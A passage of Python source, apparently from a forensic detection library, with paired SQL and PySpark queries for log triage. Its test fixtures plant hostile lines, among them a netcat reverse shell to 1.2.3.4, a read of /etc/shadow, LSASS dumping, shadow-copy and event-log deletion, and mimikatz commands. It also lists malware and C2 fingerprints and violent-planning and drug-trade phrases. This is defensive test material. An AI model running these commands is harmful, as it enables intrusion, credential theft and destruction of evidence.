"""Queries for scalar functions, patterns, joins, files, mail, similarity and the entity graph."""

from __future__ import annotations

from pyspark.sql import functions as F

from emberlog import functions as fn
from emberlog.fixed import patterns as fp
from emberlog.operators import (
    common, files as fl, graph, indicators, joins, mail, matching, patterns, similarity)
from emberlog.plans.adapters import adapter, sql, table
from emberlog.plans.network_queries import ENTROPY_SQL
from emberlog.plans.registry import query


# --- scalar functions -----------------------------------------------------------------------------

@query("fn_entropy", f"""SELECT page_id, round({ENTROPY_SQL.format(s='url')}, 6) AS entropy
FROM pages""")
def fn_entropy(spark, sf):
    return table(spark, sf, "pages").select("page_id", F.round(
        fn.shannon_entropy(F.col("url")), 6).alias("entropy"))


@query("fn_ip_scope", sql("netscan", """
SELECT foreign_addr, any_value(starts_with(foreign_addr, '10.')) AS rfc1918,
  any_value(starts_with(foreign_addr, '127.')) AS bogon,
  any_value(NOT starts_with(foreign_addr, '10.') AND NOT starts_with(foreign_addr, '127.'))
    AS is_external FROM netscan GROUP BY foreign_addr"""))
def fn_ip_scope(spark, sf):
    a = F.col("foreign_addr")
    return adapter(spark, sf, "netscan").select(a).distinct().select(
        a, fn.is_rfc1918(a).alias("rfc1918"), fn.is_bogon(a).alias("bogon"),
        fn.is_external(a).alias("is_external"))


@query("fn_provider_and_port", sql("netscan", """
SELECT DISTINCT foreign_addr, foreign_port, CASE WHEN starts_with(foreign_addr, '20.40.')
  AND foreign_port = 443 THEN 'Microsoft' END AS provider,
  CASE WHEN foreign_port IN (443, 3389, 445, 8080, 389) THEN 'known' WHEN foreign_port = 22233
  THEN 'registered' ELSE 'ephemeral' END AS category FROM netscan"""))
def fn_provider_and_port(spark, sf):
    a, p = F.col("foreign_addr"), F.col("foreign_port")
    return adapter(spark, sf, "netscan").select(a, p).distinct().select(
        a, p, fn.provider(a, p).alias("provider"), fn.port_category(p).alias("category"))


@query("fn_domain_parts", sql("dns", """
SELECT DISTINCT query, regexp_extract(query, '([^.]+[.][^.]+)$', 1) AS parent,
  regexp_extract(query, '([^.]+)$', 1) AS tld, NULL::VARCHAR AS suspicious FROM dns"""))
def fn_domain_parts(spark, sf):
    q = F.col("query")
    return adapter(spark, sf, "dns").select(q).distinct().select(
        q, fn.registered_parent(q).alias("parent"), fn.tld(q).alias("tld"),
        fn.suspicious_tld(q).alias("suspicious"))


@query("fn_suspicious_tld", """
WITH h AS (SELECT s_suppkey, 'host' || s_suppkey || CASE s_nationkey % 5 WHEN 0 THEN '.duckdns.org'
  WHEN 1 THEN '.evil.tk' WHEN 2 THEN '.shop.xyz' WHEN 3 THEN '.big.rocks' ELSE '.plain.com' END
  AS host FROM supplier)
SELECT s_suppkey, host, CASE WHEN host LIKE '%.duckdns.org' THEN 'ddns' WHEN host LIKE '%.tk'
  THEN 'abuse' WHEN host LIKE '%.xyz' THEN 'newgen' WHEN host LIKE '%.rocks' THEN 'mixed' END
  AS category FROM h""")
def fn_suspicious_tld(spark, sf):
    n = F.col("s_nationkey") % 5
    tail = (F.when(n == 0, ".duckdns.org").when(n == 1, ".evil.tk").when(n == 2, ".shop.xyz")
            .when(n == 3, ".big.rocks").otherwise(".plain.com"))
    host = F.concat(F.lit("host"), "s_suppkey", tail)
    return table(spark, sf, "supplier").select("s_suppkey", host.alias("host")).withColumn(
        "category", fn.suspicious_tld(F.col("host")))


@query("fn_refang", """SELECT page_id, url FROM pages""")
def fn_refang(spark, sf):
    defanged = F.regexp_replace(F.regexp_replace("url", r"\.", "[.]"), "^http", "hxxp")
    return table(spark, sf, "pages").select("page_id", fn.refang(defanged).alias("url"))


@query("fn_repeat_and_variety", """SELECT doc_id, regexp_matches(text,
'\\*\\*\\*|!!!|###|%%%|aaa|eee|ooo|sss|nnn|ttt|lll|rrr|000|111|222|333|444|555|666|777|888|999|---|===|\\.\\.\\.|&&&|\\$\\$\\$')
  AS marks, len(list_distinct(string_split(lower(text), ''))) AS distinct_chars FROM documents""")
def fn_repeat_and_variety(spark, sf):
    t = F.col("text")
    marks = t.rlike(r"([*!#%aeosntlr0-9=.&$-])\1{2}")
    return table(spark, sf, "documents").select(
        "doc_id", marks.alias("marks"), fn.distinct_chars(t).alias("distinct_chars"))


@query("fn_times", """
SELECT event_id, ts AS from_prtime, ts AS from_filetime, date_trunc('second', ts) AS from_seconds,
  date_trunc('second', ts) AS from_apple FROM events""")
def fn_times(spark, sf):
    us = F.unix_micros(F.col("ts").cast("timestamp"))
    sec = F.floor(us / 1_000_000)
    return table(spark, sf, "events").select(
        "event_id", fn.from_prtime(us).alias("from_prtime"),
        fn.from_filetime((us + 11644473600000000) * 10).alias("from_filetime"),
        fn.from_any_epoch(sec.cast("string")).alias("from_seconds"),
        fn.from_apple_epoch((sec - 978307200).cast("string")).alias("from_apple"))


@query("fn_subject_stem", sql("messages", """
SELECT message_id, 'topic ' || conv_id AS stem, CASE WHEN turn = 0 THEN '' WHEN turn = 1
  THEN 'topic ' || conv_id ELSE 're: topic ' || conv_id END AS reply_stem,
  split_part(sender_email, '@', 2) AS sender_domain, contains(recipient_display, '@') AS shown
FROM messages"""))
def fn_subject_stem(spark, sf):
    return adapter(spark, sf, "messages").select(
        "message_id", fn.subject_stem(F.col("subject")).alias("stem"),
        fn.reply_stem(F.col("subject")).alias("reply_stem"),
        fn.mail_domain(F.col("sender_email")).alias("sender_domain"),
        fn.display_is_email(F.col("recipient_display")).alias("shown"))


DIGESTS = """SELECT vec_id, label, concat({parts}) AS phash FROM embeddings"""


def _hex_sql() -> str:
    nibbles = []
    for i in range(16):
        bits = " + ".join(f"CASE WHEN embedding[{4 * i + j + 1}] > 0.125 THEN {8 >> j} ELSE 0 END"
                          for j in range(4))
        nibbles.append(f"substr('0123456789abcdef', CAST({bits} AS INT) + 1, 1)")
    return ", ".join(nibbles)


HEX_SQL = _hex_sql()
DIGEST_CTE = f"dg AS (SELECT vec_id, label, concat({HEX_SQL}) AS phash FROM embeddings)"
POP = ("bit_count(xor(CAST('0x' || a.phash[1:8] AS BIGINT), CAST('0x' || b.phash[1:8] AS BIGINT)))"
       " + bit_count(xor(CAST('0x' || a.phash[9:16] AS BIGINT), "
       "CAST('0x' || b.phash[9:16] AS BIGINT)))")


def digests(spark, sf):
    """Strong dimensions of the embeddings as 64-bit hashes; the label stands for the case."""
    signs = [F.when(F.get("embedding", F.lit(i)) > 0.125, F.lit("1")).otherwise("0")
             for i in range(64)]
    halves = [F.lpad(F.lower(F.conv(F.concat(*signs[i:i + 32]), 2, 16)), 8, "0") for i in (0, 32)]
    return table(spark, sf, "embeddings").select(
        "vec_id", F.concat(F.lit("case"), "label").alias("case_id"),
        F.concat(*halves).alias("phash"), F.sha2(F.col("vec_id").cast("string"), 256).alias(
            "sha256"))


@query("fn_phash_and_bands", f"""WITH {DIGEST_CTE}
SELECT a.vec_id, CAST({POP} AS INT) AS distance, CASE WHEN {POP} = 0 THEN 'uncorrelated'
  WHEN {POP} <= 10 THEN 'weak' WHEN {POP} <= 20 THEN 'marginal' ELSE 'strong' END AS fuzzy_band,
  CASE WHEN {POP} <= 30 THEN 'very-close-variant' WHEN {POP} <= 70 THEN 'same-family-likely'
  ELSE 'same-family-loose' END AS tlsh_band FROM dg a JOIN dg b ON b.vec_id = a.vec_id + 1""")
def fn_phash_and_bands(spark, sf):
    d = digests(spark, sf)
    nxt = d.select((F.col("vec_id") - 1).alias("vec_id"), F.col("phash").alias("next"))
    distance = fn.phash_distance(F.col("phash"), F.col("next"))
    return d.join(nxt, "vec_id").select("vec_id", distance.alias("distance")).select(
        "vec_id", "distance", fn.ssdeep_band(F.col("distance")).alias("fuzzy_band"),
        fn.tlsh_band(F.col("distance")).alias("tlsh_band"))


@query("fn_name_root", """SELECT s_suppkey, 'host' || s_suppkey AS root FROM supplier""")
def fn_name_root(spark, sf):
    tail = F.element_at(F.array(*[F.lit(x) for x in ("-mem", "_snapshot3", "-disk-img", "-baseline-mem")]),
                        (F.col("s_suppkey") % 4 + 1).cast("int"))
    name = F.concat(F.lit("HOST"), "s_suppkey", tail)
    return table(spark, sf, "supplier").select(
        "s_suppkey", F.regexp_replace(fn.name_root(name), "-disk$", "").alias("root"))


@query("fn_json_field", """SELECT event_id, CAST(props->>'$.k' AS BIGINT) AS k FROM events""")
def fn_json_field(spark, sf):
    doc = F.try_parse_json("props")
    return table(spark, sf, "events").select("event_id", F.coalesce(
        F.try_variant_get(doc, "$.k", "bigint"), F.try_variant_get(doc, "$.key", "bigint")
    ).alias("k"))


@query("fn_text_time_window", """
WITH t AS (SELECT user_id, strftime(ts, '%Y-%m-%d %H:%M:%S') AS s FROM events)
SELECT user_id, min(CAST(s AS TIMESTAMP)) AS earliest, max(CAST(s AS TIMESTAMP)) AS latest
FROM t GROUP BY user_id""")
def fn_text_time_window(spark, sf):
    line = F.concat(F.lit("seen "), F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss"), F.lit("Z by x"))
    found = table(spark, sf, "events").select("user_id", F.explode(
        fn.timestamps_in_text(line)).alias("t"))
    return found.groupBy("user_id").agg(F.min("t").alias("earliest"), F.max("t").alias("latest"))


@query("fn_win_basename", sql("files", """
SELECT doc_id, 'doc' || doc_id || '.txt' AS name, false AS writable FROM files"""))
def fn_win_basename(spark, sf):
    p = F.replace("path", F.lit("/"), F.lit("\\"))
    return adapter(spark, sf, "files").select("doc_id", fn.win_basename(p).alias("name"),
                                              fn.is_user_writable(p).alias("writable"))


@query("fn_base64_decode", """SELECT doc_id, true AS found FROM documents""")
def fn_base64_decode(spark, sf):
    plain = F.concat(F.lit("powershell -enc run "), F.sha2("text", 256))
    blob = F.regexp_replace(F.base64(plain.cast("binary")), r"\s", "")
    return table(spark, sf, "documents").select("doc_id", F.array_contains(
        fn.decode_base64_text(F.concat(F.lit("x "), blob)), plain).alias("found"))


# --- patterns ------------------------------------------------------------------------------------------

WORD_FAMILIES = {"secrets": [r"token\s*=", r"api[_-]?key", r"password"],
                 "insults": ["idiot", "clown", "loser"], "mail": [r"[a-z0-9._]+@example"]}
LINES = """ln AS (SELECT doc_id, source, trim(unnest(string_split(text, chr(10))), ' ') AS line
FROM documents), lines AS (SELECT * FROM ln WHERE line <> '' AND NOT starts_with(line, '#'))"""


def lines(spark, sf):
    return patterns.text_lines(table(spark, sf, "documents"), keep=["doc_id", "source"])


FAMILY_SQL = " UNION ALL ".join(
    f"SELECT doc_id, source, line, '{n}' AS family FROM lines WHERE regexp_matches(line, "
    f"'(?i){'|'.join(p)}')" for n, p in WORD_FAMILIES.items())


@query("regex_families", f"""WITH {LINES}, h AS ({FAMILY_SQL}),
u AS (SELECT family, source, count(*) AS n, min(line) AS s FROM h GROUP BY ALL),
r AS (SELECT *, row_number() OVER (PARTITION BY family ORDER BY n DESC, source) AS rn FROM u)
SELECT family, CAST(sum(n) AS BIGINT) AS event_count, min(s) AS sample, string_agg(source || '='
  || n, ';' ORDER BY rn) FILTER (rn <= 5) AS top FROM r GROUP BY family""")
def regex_families(spark, sf):
    r = patterns.family_summary(table(spark, sf, "documents"), WORD_FAMILIES, "source")
    return r.withColumn("top", common.show_top(F.col("top")))


def planted(spark, sf, phrases):
    """Documents with a phrase after the text, picked by the document's number."""
    pick = F.element_at(F.array(*[F.lit(p) for p in phrases]),
                        (F.col("doc_id") % len(phrases) + 1).cast("int"))
    return table(spark, sf, "documents").select(
        "doc_id", "lang", "source", F.concat("text", F.lit("\n"), pick).alias("text"))


SHELL_PHRASES = ["nc -e /bin/bash 1.2.3.4", "unset HISTFILE", "nothing here",
                 "cat /etc/shadow | gpg -c", "systemsetup -setremotelogin on"]


@query("shell_families", """
SELECT doc_id, unnest(CASE doc_id % 5 WHEN 0 THEN ['reverse_shell'] WHEN 1
  THEN ['defense_evasion'] WHEN 3 THEN ['credential_access', 'concealment_tooling'] WHEN 4
  THEN ['remote_access_screensharing'] ELSE [] END) AS family FROM documents""")
def shell_families(spark, sf):
    rows = patterns.text_lines(planted(spark, sf, SHELL_PHRASES), keep=["doc_id"])
    return patterns.family_matches(rows, {**fp.SHELL_FAMILIES, **fp.MAC_FAMILIES}).select(
        "doc_id", "family").distinct()


@query("shell_triage", """
WITH h AS (SELECT doc_id, lang AS host, source AS "user", unnest(CASE doc_id % 5
  WHEN 0 THEN ['reverse_shell'] WHEN 1 THEN ['defense_evasion']
  WHEN 3 THEN ['credential_access', 'concealment_tooling'] ELSE [] END) AS family FROM documents),
c AS (SELECT family, host, count(*) AS n FROM h GROUP BY ALL),
u AS (SELECT family, "user", count(*) AS n FROM h GROUP BY ALL),
cr AS (SELECT *, row_number() OVER (PARTITION BY family ORDER BY n DESC, host) AS r FROM c),
ur AS (SELECT *, row_number() OVER (PARTITION BY family ORDER BY n DESC, "user") AS r FROM u)
SELECT family, count(*) AS event_count, min(doc_id) AS first_seen, max(doc_id) AS last_seen,
  (SELECT string_agg(host || '=' || n, ';' ORDER BY r) FROM cr WHERE cr.family = h.family AND r <= 5)
    AS top_hosts,
  (SELECT string_agg("user" || '=' || n, ';' ORDER BY r) FROM ur WHERE ur.family = h.family AND r <= 5)
    AS top_users,
  CASE family WHEN 'reverse_shell' THEN 1 WHEN 'credential_access' THEN 2 WHEN 'defense_evasion' THEN 3
    ELSE 9 END AS priority FROM h GROUP BY family""")
def shell_triage(spark, sf):
    rows = patterns.text_lines(planted(spark, sf, SHELL_PHRASES), keep=["doc_id", "lang", "source"])
    hits = patterns.family_matches(rows, fp.SHELL_FAMILIES).select(
        "doc_id", "lang", "source", "family").distinct()
    out = patterns.family_triage(hits, "lang", "source", "doc_id")
    return out.withColumns({c: common.show_top(F.col(c)) for c in ("top_hosts", "top_users")})


LEXICON = {"a": ["idiot", "token", "password"], "b": ["clown", "copyright", "license"],
           "c": ["loser", "email", "stupid"]}


def _lexicon_sql() -> str:
    def hits(ws):
        return "list_filter([" + ", ".join(
            f"CASE WHEN regexp_matches(lower(text), '(^|[^a-z]){w}([^a-z]|$)') THEN '{w}' END"
            for w in ws) + "], lambda x: x IS NOT NULL)"
    cols = ", ".join(f"{hits(ws)} AS {n}_h" for n, ws in LEXICON.items())
    total = " + ".join(f"len({n}_h)" for n in LEXICON)
    cats = " + ".join(f"CAST(len({n}_h) > 0 AS INT)" for n in LEXICON)
    return f"""WITH h AS (SELECT doc_id, {cols} FROM documents),
s AS (SELECT doc_id, CAST({total} AS INT) AS total_hits, CAST({cats} AS INT) AS categories FROM h),
g AS (SELECT *, CASE WHEN categories >= 3 THEN 'high' WHEN (categories >= 2 AND total_hits >= 3)
  OR (categories = 1 AND total_hits >= 4) THEN 'medium' END AS strength FROM s)
SELECT * FROM g WHERE strength IS NOT NULL"""


@query("lexicon_categories", _lexicon_sql())
def lexicon_categories(spark, sf):
    r = patterns.lexicon_hits(table(spark, sf, "documents"), words=LEXICON, patterns={})
    return r.select("doc_id", "total_hits", "categories", "strength")


PLANNING = ["a glock 19 with 500 rounds and a burner phone", "the manifesto",
            "escape route to bali indonesia over vpn", "plain words"]


@query("planning_lexicon", """
SELECT doc_id, CASE doc_id % 4 WHEN 0 THEN 3 ELSE 3 END AS total_hits, CASE doc_id % 4 WHEN 0 THEN 3
  ELSE 2 END AS categories, CASE doc_id % 4 WHEN 0 THEN 'high' ELSE 'medium' END AS strength
FROM documents WHERE doc_id % 4 IN (0, 2)""")
def planning_lexicon(spark, sf):
    return patterns.lexicon_hits(planted(spark, sf, PLANNING)).select(
        "doc_id", "total_hits", "categories", "strength")


TRADE = ["blue dream and og kush", "sour diesel, molly, haze, snow at $10/gram", "plain words"]


@query("trade_lexicon", """
SELECT doc_id, CASE doc_id % 3 WHEN 0 THEN 3 ELSE 5 END AS total_hits, CASE doc_id % 3 WHEN 0 THEN 1
  ELSE 2 END AS categories, CASE doc_id % 3 WHEN 0 THEN 'medium' ELSE 'high' END AS strength
FROM documents WHERE doc_id % 3 < 2""")
def trade_lexicon(spark, sf):
    return patterns.trade_hits(planted(spark, sf, TRADE)).select(
        "doc_id", "total_hits", "categories", "strength")


FINGERPRINTS = {"leak": [("(?i)token", "disk log", "(?i)idiot"), ("(?i)secret", "log", None)],
                "page": [("https?://", "network", None)]}


@query("string_families", f"""WITH {LINES}
SELECT 'leak' AS family, count(*) AS n FROM lines WHERE (regexp_matches(line, '(?i)token')
  AND NOT regexp_matches(line, '(?i)idiot')) OR regexp_matches(line, '(?i)secret')""")
def string_families(spark, sf):
    return patterns.fingerprint_lines(
        table(spark, sf, "documents"), "log", families=FINGERPRINTS).groupBy("family").agg(
        F.count("*").alias("n"))


MALWARE = ["ran Invoke-Mimikatz twice", "GET /__utm.gif google-analytics", "GET /__utm.gif",
           "plain", "remcos and trickbot"]


@query("malware_fingerprints", """
SELECT doc_id, unnest(CASE doc_id % 5 WHEN 0 THEN ['mimikatz', 'empire_powershell'] WHEN 2
  THEN ['cobalt_strike'] WHEN 4 THEN ['remcos_rat', 'trickbot'] ELSE [] END) AS family
FROM documents""")
def malware_fingerprints(spark, sf):
    return patterns.fingerprint_lines(planted(spark, sf, MALWARE), keep=["doc_id"]).select(
        "doc_id", "family").distinct()


#: One line per fingerprint, in the order of the table, and one that a benign pattern excuses.
EVERY_FINGERPRINT = (
    "ran Mimikatz twice", "SEKURLSA::x", "kerberos::list", "lsadump::sam", "by Benjamin Delpy", "from gentilkiwi",
    "sekurlsa::  then wdigest", "a LummaC2 build", "TeslaBrowser/5.5", "/api/set_agent?id=1&token=2",
    "?act=recive_message", "/api/set_agent?id=2&act=log", "cobalt strike", "GET /__utm.gif", "GET /dpixel",
    "MZARUH", "xor_decode_loop", "beacon post request", "meterpreter", "msf::x", "metasploit", "stdapi_sys",
    "railgun", "Invoke-Mimikatz", "Invoke-Empire", "PowerSploit", "PowerView", "msnetobj.dll",
    "VMInstallKernelDriver", "KernelDriverUninstall", "/info?id=%u", "finspy", "finfisher", "darkcomet",
    "DC_MUTEX-AB1", "x#KCMDDC51#", "njrat", "njq8", "cap12!??!", "remcos", "Breaking-Security.Net", "Rmc-A1",
    "agent tesla", "{0123ABCD-0123-0123-0123-0123456789AB}.exe", "/ls5/forum.php", "/footage.php",
    "forum.php?a=1&b=", "/1234s.bin", "/location/loca.asp", "trickbot", "/table.png1", "/networkDll",
    "/mor1/PC-1_W617601.0123456789ABCDEF0123456789ABCDEF/5/", "checkip.amazonaws.com", "icanhazip.com",
    "ipinfo.io", "api.ipify.org", "ip-api.com", "ip.anysrc.net", "wtfismyip.com", "qbot", "/tABC123DE/",
    "bokbot", "?id=1234567890123456789", "sliver", "/fonts/a /libs.woff2", "angler", "/news/abc123.php?id=123456",
    "nuclear pack", "abcdefghij0123456789" + "0123456789abcdef" * 2 + ".example.org/index.php",
    "/index.php?i=" + "A1" * 25, "fiesta ek", "/ai_a1b2c3/" + "0a" * 16 + ";1;2", "kuluoz",
    "/b/eve/" + "0A" * 10, "dyreza", "/abcd12/HOST-PC/1/A.B-2/3/", "q45tyu6hgvhi7", "Reamin",
    "GET /__utm.gif from google-analytics")
#: Equivalents of the two look-ahead patterns for an engine without look-around: pattern, tests of the match.
WITHOUT_LOOKAHEAD = {
    r"/t(?=[A-Z0-9]*[0-9])(?=[A-Z0-9]*[A-Z])[A-Z0-9]{6,12}/": (r"/t[A-Z0-9]{6,12}/", ("[0-9]", "[A-Z]"))}


def _fingerprint_sql(rule) -> str:
    """Matches of one fingerprint with their places: texts between matches and matches follow in turn."""
    pattern, tests = WITHOUT_LOOKAHEAD.get(rule.pattern, (rule.pattern, ()))
    quoted = pattern.replace("'", "''")
    benign = f" AND NOT regexp_matches(line, '{rule.benign}')" if rule.benign else ""
    kept = "".join(f" AND regexp_matches(v, '{t}')" for t in tests)
    return f"""SELECT doc_id, '{rule.family}' AS family, {rule.number} AS pattern, line_no, start,
        trim(substr(line, greatest(start - 16, 0) + 1, least(start, 16) + length(v) + 16), ' ') AS snippet
      FROM (SELECT *, m[i] AS v, (list_sum(list_transform(p[1:i], lambda x: length(x)))
                   + coalesce(list_sum(list_transform(m[1:i - 1], lambda x: length(x))), 0))::INT AS start
            FROM (SELECT *, unnest(range(1, len(m) + 1)) AS i FROM (
                  SELECT *, regexp_extract_all(line, '{quoted}') AS m, string_split_regex(line, '{quoted}') AS p
                  FROM lines WHERE regexp_matches(line, '{quoted}'){benign}))) WHERE true{kept}"""


FINGERPRINT_LINES = """few AS (SELECT doc_id, text || chr(10) || ([%s])[doc_id %% %d + 1] AS text FROM documents),
  ln AS (SELECT doc_id, unnest(string_split(text, chr(10))) AS line, generate_subscripts(string_split(text, chr(10)), 1) - 1
         AS line_no FROM few),
  lines AS (SELECT doc_id, line_no, trim(line, ' ') AS line FROM ln
            WHERE trim(line, ' ') <> '' AND NOT starts_with(trim(line, ' '), '#'))""" % (
    ", ".join(f"'{x}'" for x in EVERY_FINGERPRINT), len(EVERY_FINGERPRINT))
FINGERPRINT_MATCHES = f"""{FINGERPRINT_LINES},
  hits AS ({" UNION ALL ".join(_fingerprint_sql(r) for r in matching.rules_of(fp.MALWARE_FAMILIES))})"""


@query("malware_pattern_counts", f"""WITH {FINGERPRINT_MATCHES}
SELECT family, pattern, count(*) AS matches, count(DISTINCT doc_id) AS texts FROM hits GROUP BY family, pattern""")
def malware_pattern_counts(spark, sf):
    found = patterns.fingerprint_matches(planted(spark, sf, EVERY_FINGERPRINT), keep=["doc_id"])
    per = found.groupBy("family", "pattern", "doc_id").agg(F.count("*").alias("n"))
    return per.groupBy("family", "pattern").agg(F.sum("n").alias("matches"), F.count("*").alias("texts"))


@query("malware_snippets", f"""WITH {FINGERPRINT_MATCHES}
SELECT family, row_number() OVER (PARTITION BY family ORDER BY pattern, doc_id, line_no, start) AS rank, pattern, doc_id,
  line_no, snippet FROM hits QUALIFY rank <= 5""")
def malware_snippets(spark, sf):
    found = patterns.fingerprint_matches(planted(spark, sf, EVERY_FINGERPRINT), keep=["doc_id"])
    return patterns.fingerprint_snippets(found, "doc_id").select(
        "family", "rank", "pattern", "doc_id", "line_no", "snippet")


@query("keyword_tags", f"""WITH {LINES}
SELECT doc_id, 'H_X' AS tag, 'token' AS label, count(*) AS n FROM lines
WHERE regexp_matches(line, '(?i)\\btoken\\b') GROUP BY doc_id""")
def keyword_tags(spark, sf):
    r = patterns.keyword_tags(lines(spark, sf), keywords=[(r"\btoken\b", "H_X", "token")])
    return r.groupBy("doc_id", "tag", "label").agg(F.count("*").alias("n"))


#: One console line per keyword, in the order of the table, and one without any.
CONSOLE = ("ran mimikatz", "sekurlsa::x", "lsadump::sam", "kerberos::list", "pass-the-hash", "procdump -ma lsass",
           "reg save hklm\\sam out", "psexec.exe x", "wmic /node:h", "schtasks /create /s host", "sc \\\\host stop",
           "net use \\\\host\\C$", "copy \\\\host\\a b", "powershell -enc x", "powershell -nop", "powershell -w hidden",
           "Invoke-Expression", "wevtutil cl", "sdelete a", "vssadmin delete shadows", "whoami /priv",
           'net group "Domain Admins"', "plain line")
KEYWORD_TAGS = ", ".join(f"('{tag}', '{label}')" for _, tag, label in fp.CONSOLE_KEYWORDS)


@query("console_keywords", f"""WITH k AS (SELECT col0 AS tag, col1 AS label, row_number() OVER () - 1 AS i
  FROM (VALUES {KEYWORD_TAGS})), d AS (SELECT doc_id % {len(CONSOLE)} AS i, text FROM documents WHERE text IS NOT NULL)
SELECT tag, label, count(*) AS n FROM d JOIN k USING (i) GROUP BY ALL""")
def console_keywords(spark, sf):
    """Lines per keyword of the whole table, one of them after each document's text."""
    rows = patterns.text_lines(planted(spark, sf, CONSOLE), keep=["doc_id"])
    return patterns.keyword_tags(rows).groupBy("tag", "label").agg(F.count("*").alias("n"))


VISITS = """v AS (SELECT page_id, CASE page_id % 6 WHEN 0 THEN 'https://pastebin.com/x' || page_id
  WHEN 1 THEN 'http://eu.mail.google.com/in' WHEN 2 THEN 'https://board.example.org/viewtopic?t='
  || page_id WHEN 3 THEN 'http://10.20.30.' || (page_id % 250) || '/a?uid=1'
  WHEN 4 THEN 'http://cdn.site.top/s?sessionid=' || page_id ELSE url || '&q=' || repeat('z',
  CAST(page_id % 500 AS INT)) END AS url FROM pages)"""


def visits(spark, sf):
    m = F.col("page_id") % 6
    made = (F.when(m == 0, F.concat(F.lit("https://pastebin.com/x"), "page_id"))
            .when(m == 1, F.lit("http://eu.mail.google.com/in"))
            .when(m == 2, F.concat(F.lit("https://board.example.org/viewtopic?t="), "page_id"))
            .when(m == 3, F.concat(F.lit("http://10.20.30."), F.col("page_id") % 250,
                                   F.lit("/a?uid=1")))
            .when(m == 4, F.concat(F.lit("http://cdn.site.top/s?sessionid="), "page_id"))
            .otherwise(F.concat("url", F.lit("&q="), F.repeat(F.lit("z"), (
                F.col("page_id") % 500).cast("int")))))
    return table(spark, sf, "pages").select("page_id", made.alias("url"))


@query("url_destinations", f"""WITH {VISITS} SELECT page_id, CASE page_id % 6 WHEN 0
  THEN 'anon_share' WHEN 1 THEN 'webmail' ELSE 'forum_upload' END AS destination FROM v
WHERE page_id % 6 <= 2""")
def url_destinations(spark, sf):
    return patterns.url_destinations(visits(spark, sf)).select("page_id", "destination")


@query("download_sources", f"""WITH {VISITS} SELECT page_id, CASE page_id % 6 WHEN 3 THEN 'raw_ip'
  ELSE 'suspicious_tld' END AS reason FROM v WHERE page_id % 6 IN (3, 4)""")
def download_sources(spark, sf):
    return patterns.download_sources(visits(spark, sf)).select("page_id", "reason")


@query("cached_url_flags", f"""WITH {VISITS} SELECT page_id, CASE page_id % 6 WHEN 3 THEN 'raw_ip'
  WHEN 4 THEN 'unusual_tld' ELSE 'long_query' END AS kind FROM v WHERE page_id % 6 IN (3, 4)
  OR (page_id % 6 = 5 AND contains(url, '?') AND length(url) > 400)""")
def cached_url_flags(spark, sf):
    return patterns.cached_url_flags(visits(spark, sf)).select("page_id", "kind")


@query("reputation_lookup", """
SELECT c_custkey, CASE WHEN c_nationkey < 20 THEN n_name ELSE 'unknown' END AS n_name
FROM customer JOIN nation ON n_nationkey = c_nationkey""")
def reputation_lookup(spark, sf):
    known = table(spark, sf, "nation").filter("n_nationkey < 20").withColumnRenamed(
        "n_nationkey", "c_nationkey")
    return patterns.reputation(table(spark, sf, "customer"), "c_nationkey", known,
                               ["n_name"]).select("c_custkey", "n_name")


# --- joins -----------------------------------------------------------------------------------------------

@query("hidden_rows", """SELECT o_orderkey FROM orders WHERE NOT EXISTS (SELECT 1 FROM lineitem
WHERE l_orderkey = o_orderkey)""")
def hidden_rows(spark, sf):
    listed = table(spark, sf, "lineitem").select(F.col("l_orderkey").alias("o_orderkey"))
    return joins.hidden_rows(table(spark, sf, "orders"), listed, ["o_orderkey"]).select(
        "o_orderkey")


def versions(spark, sf):
    d = adapter(spark, sf, "files").select(
        F.concat(F.lit("p"), F.floor(F.col("doc_id") / 2)).alias("path"), "side", "size",
        F.sha2("text", 256).alias("sha256"))
    return d.filter("side = 0"), d.filter("side = 1")


@query("snapshot_diff", """
WITH f AS (SELECT 'p' || (doc_id // 2) AS path, doc_id % 2 AS side, n_chars AS size,
  sha256(text) AS sha FROM documents),
j AS (SELECT coalesce(a.path, b.path) AS path, a.size AS ls, b.size AS ss, a.sha AS la, b.sha AS sa
  FROM (SELECT * FROM f WHERE side = 0) a FULL JOIN (SELECT * FROM f WHERE side = 1) b
  ON a.path = b.path),
s AS (SELECT path, CASE WHEN la IS NULL THEN 'deleted_in_live' WHEN sa IS NULL OR la = sa THEN NULL
  WHEN ls < ss THEN 'shrunk_in_live' ELSE 'changed' END AS severity, coalesce(ss - ls, 0)
  AS delta_bytes FROM j) SELECT * FROM s WHERE severity IS NOT NULL""")
def snapshot_diff(spark, sf):
    return joins.snapshot_diff(*versions(spark, sf))


@query("pre_clearing_snapshot", """
WITH live AS (SELECT o_custkey AS log, min(o_totalprice) AS size FROM orders GROUP BY o_custkey),
q AS (SELECT o_custkey AS log, max(o_orderkey) AS snapshot FROM orders JOIN live
  ON live.log = o_custkey WHERE o_totalprice >= size * 4 AND o_totalprice - size >= 1000
  GROUP BY o_custkey)
SELECT q.log, snapshot, o_totalprice AS snapshot_size FROM q JOIN orders ON o_orderkey = snapshot""")
def pre_clearing_snapshot(spark, sf):
    o = table(spark, sf, "orders").select(F.col("o_custkey").alias("log"), F.col(
        "o_orderkey").alias("number"), F.col("o_totalprice").alias("size"))
    live = o.groupBy("log").agg(F.min("size").alias("size"))
    return joins.pre_clearing_snapshot(live, o, "log", 4.0, 1000)


@query("snapshot_progress", """
WITH p AS (SELECT DISTINCT date_trunc('day', ts) AS snapshot, user_id AS item FROM events),
o AS (SELECT snapshot, row_number() OVER (ORDER BY snapshot) AS n FROM
  (SELECT DISTINCT snapshot FROM p)),
r AS (SELECT item, n, snapshot FROM p JOIN o USING (snapshot))
SELECT o.snapshot, (SELECT count(*) FROM r WHERE r.n = o.n) AS items,
  (SELECT count(*) FROM r WHERE r.n = o.n AND item NOT IN (SELECT item FROM r WHERE n = 1))
    AS new_vs_baseline,
  CASE WHEN o.n = 1 THEN 0 ELSE (SELECT count(*) FROM r WHERE r.n = o.n AND item NOT IN
    (SELECT item FROM r x WHERE x.n = o.n - 1)) END AS new_vs_previous,
  (SELECT count(*) FROM r WHERE r.n = o.n - 1 AND item NOT IN
    (SELECT item FROM r x WHERE x.n = o.n)) AS gone_vs_previous FROM o""")
def snapshot_progress(spark, sf):
    e = table(spark, sf, "events").select(F.date_trunc("day", "ts").alias("snapshot"),
                                          F.col("user_id").alias("item"))
    return joins.snapshot_progress(e)


@query("covering_intervals", sql("intervals points", """
SELECT p.device, p.owner, i.app, i.seq, p.t FROM points p JOIN intervals i ON i.device = p.device
AND i.t_start <= p.t AND p.t <= i.t_start + days * INTERVAL 1 DAY"""))
def covering_intervals(spark, sf):
    spans = adapter(spark, sf, "intervals").withColumn(
